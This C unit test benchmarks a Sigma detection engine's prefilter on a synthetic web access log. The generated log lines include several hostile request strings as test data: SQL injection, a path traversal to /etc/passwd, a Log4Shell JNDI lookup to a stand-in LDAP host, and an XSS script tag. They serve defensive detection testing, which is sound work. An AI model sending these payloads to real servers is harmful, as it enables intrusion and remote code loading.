/* mamori — prefilter measurement on a synthetic web access log: events/s
 * with one rule vs. the whole SigmaHQ collection loaded (the webserver and
 * proxy rules apply to these events), prefilter on and off. The assertion is
 * on work, not time (time varies by machine and sanitizer): with the
 * prefilter the rules evaluated per event stay a small fraction of the
 * applicable rules. Skips when $MM_EXTERNAL/sigma-full is absent. */
#include "helpers.h"

#include <sys/stat.h>
#include <time.h>

#define NEVENTS 20000

struct line {
	char raw[512];
	struct mm_event ev;
};

static struct line *g_lines;

static const char *const g_paths[] = {"/index.html", "/css/site.css", "/js/app.js",
                                      "/images/logo.png", "/api/v1/items", "/login",
                                      "/products/view", "/search", "/favicon.ico", "/about"};
static const char *const g_ua[] = {
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
	"Chrome/120.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 13_1) AppleWebKit/605.1.15 (KHTML, like Gecko) "
	"Version/16.1 Safari/605.1.15",
	"Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
	"Googlebot/2.1 (+http://www.google.com/bot.html)"};
static const char *const g_attacks[] = {"/index.php?id=1%27%20UNION%20SELECT%201,2--",
                                        "/cgi-bin/../../../../etc/passwd",
                                        "/?x=${jndi:ldap://198.51.100.1/a}",
                                        "/wp-login.php?<script>alert(1)</script>"};

static struct mm_slice put(struct line *l, size_t *at, const char *s, size_t n)
{
	memcpy(l->raw + *at, s, n);
	struct mm_slice r = mm_slice(l->raw + *at, n);
	*at += n;
	return r;
}

/* Combined log format; fields are slices of the line (MM_EV_VERBATIM). */
static void make_lines(void)
{
	uint64_t x = 12345;
	g_lines = calloc(NEVENTS, sizeof(*g_lines));
	assert_non_null(g_lines);
	for (size_t i = 0; i < NEVENTS; i++) {
		struct line *l = &g_lines[i];
		x = x * 6364136223846793005ull + 1442695040888963407ull;
		unsigned r = (unsigned)(x >> 33);
		char ip[32], path[160], status[8], tail[64];
		snprintf(ip, sizeof(ip), "198.51.%u.%u", r % 200, (r >> 8) % 250);
		bool attack = (r % 100) == 0;
		if (attack)
			snprintf(path, sizeof(path), "%s", g_attacks[(r >> 3) % 4]);
		else if (r % 3 == 0)
			snprintf(path, sizeof(path), "%s?q=item%u&page=%u", g_paths[r % 10], r % 977,
			         r % 7);
		else
			snprintf(path, sizeof(path), "%s", g_paths[(r >> 4) % 10]);
		snprintf(status, sizeof(status), "%d", attack ? 404 : (r % 20 == 0 ? 304 : 200));
		mm_event_clear(&l->ev);
		l->ev.category = "webserver";
		l->ev.flags = MM_EV_VERBATIM;
		size_t at = 0;
		l->ev.f[MM_F_SOURCE_IP] = put(l, &at, ip, strlen(ip));
		put(l, &at, " - - [10/Oct/2023:13:55:36 +0000] \"", 35);
		const char *m = (r % 5 == 0) ? "POST" : "GET";
		l->ev.f[MM_F_HTTP_REQUEST_METHOD] = put(l, &at, m, strlen(m));
		put(l, &at, " ", 1);
		l->ev.f[MM_F_URL_ORIGINAL] = put(l, &at, path, strlen(path));
		char *q = strchr(path, '?');
		size_t plen = q ? (size_t)(q - path) : strlen(path);
		l->ev.f[MM_F_URL_PATH] = mm_slice(l->ev.f[MM_F_URL_ORIGINAL].p, plen);
		if (q)
			l->ev.f[MM_F_URL_QUERY] =
				mm_slice(l->ev.f[MM_F_URL_ORIGINAL].p + plen + 1, strlen(q + 1));
		put(l, &at, " HTTP/1.1\" ", 11);
		l->ev.f[MM_F_HTTP_RESPONSE_STATUS] = put(l, &at, status, strlen(status));
		snprintf(tail, sizeof(tail), " %u \"-\" \"", 200 + r % 5000);
		put(l, &at, tail, strlen(tail));
		const char *ua = g_ua[(r >> 5) % 4];
		l->ev.f[MM_F_USER_AGENT_ORIGINAL] = put(l, &at, ua, strlen(ua));
		put(l, &at, "\"", 1);
		l->ev.raw = mm_slice(l->raw, at);
		l->ev.msg = l->ev.raw;
	}
}

static double run(const struct mm_ruleset *rs, bool prefilter, struct mm_detect_stats *st)
{
	struct mm_detector *d = mm_detector_new(rs);
	mm_detector_set_prefilter(d, prefilter);
	struct timespec a, b;
	clock_gettime(CLOCK_MONOTONIC, &a);
	for (int rep = 0; rep < 3; rep++)
		for (size_t i = 0; i < NEVENTS; i++)
			mm_detect_event(d, &g_lines[i].ev, NULL, NULL);
	clock_gettime(CLOCK_MONOTONIC, &b);
	mm_detector_stats(d, st);
	mm_detector_free(d);
	double secs = (double)(b.tv_sec - a.tv_sec) + (double)(b.tv_nsec - a.tv_nsec) / 1e9;
	return (double)st->events / secs;
}

static void test_bench(void **s)
{
	const char *ext = getenv("MM_EXTERNAL");
	char root[2048], def[900];
	struct stat sb;
	if (!ext) {
		snprintf(def, sizeof(def), "%s/../shared/data/external", MM_SOURCE_DIR);
		ext = def;
	}
	snprintf(root, sizeof(root), "%s/sigma-full", ext);
	if (stat(root, &sb) != 0) {
		printf("SKIP: %s is absent (set MM_EXTERNAL to the external data folder)\n", root);
		skip();
	}
	make_lines();
	struct mm_error err;

	struct mm_ruleset *one = load_pl("title: one\nlogsource: {category: webserver}\n"
	                                 "detection:\n  s: {c-uri|contains: 'etc/passwd'}\n"
	                                 "  condition: s\n",
	                                 NULL, true);
	struct mm_detect_stats st1, stall, stoff;
	double eps1 = run(one, true, &st1);

	struct mm_ruleset *all = mm_ruleset_new(true);
	const char *dirs[] = {"rules", "rules-emerging-threats", "rules-threat-hunting",
	                      "rules-compliance"};
	for (size_t i = 0; i < MM_ARRAY_LEN(dirs); i++) {
		char p[2200];
		snprintf(p, sizeof(p), "%s/%s", root, dirs[i]);
		if (stat(p, &sb) == 0)
			assert_int_equal(mm_ruleset_add_path(all, p, &err), MM_OK);
	}
	assert_int_equal(mm_ruleset_compile(all, &err), MM_OK);
	size_t applicable = 0;
	for (size_t i = 0; i < mm_ruleset_rule_count(all); i++)
		if (mm_event_in_logsource(&g_lines[0].ev, mm_ruleset_rule_at(all, i)->product,
		                          mm_ruleset_rule_at(all, i)->category,
		                          mm_ruleset_rule_at(all, i)->service))
			applicable++;
	double epsall = run(all, true, &stall);
	double epsoff = run(all, false, &stoff);
	printf("synthetic access log, %d events x3:\n", NEVENTS);
	printf("  1 rule:                     %10.0f events/s\n", eps1);
	printf("  %zu rules loaded (%zu apply to webserver events), prefilter on:  %10.0f events/s, "
	       "%.2f rules evaluated/event, %llu matches\n",
	       mm_ruleset_rule_count(all), applicable, epsall,
	       (double)stall.rules_evaluated / (double)stall.events,
	       (unsigned long long)stall.matches);
	printf("  same, prefilter off:        %10.0f events/s, %.2f rules evaluated/event, %llu "
	       "matches\n",
	       epsoff, (double)stoff.rules_evaluated / (double)stoff.events,
	       (unsigned long long)stoff.matches);
	assert_int_equal(stall.matches, stoff.matches);
	assert_true(stall.matches > 0);
	assert_true(applicable > 50);
	/* the prefilter cuts the work to a small fraction of the applicable rules */
	assert_true(stall.rules_evaluated * 5 < stoff.rules_evaluated);
	mm_ruleset_free(one);
	mm_ruleset_free(all);
	free(g_lines);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_bench),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
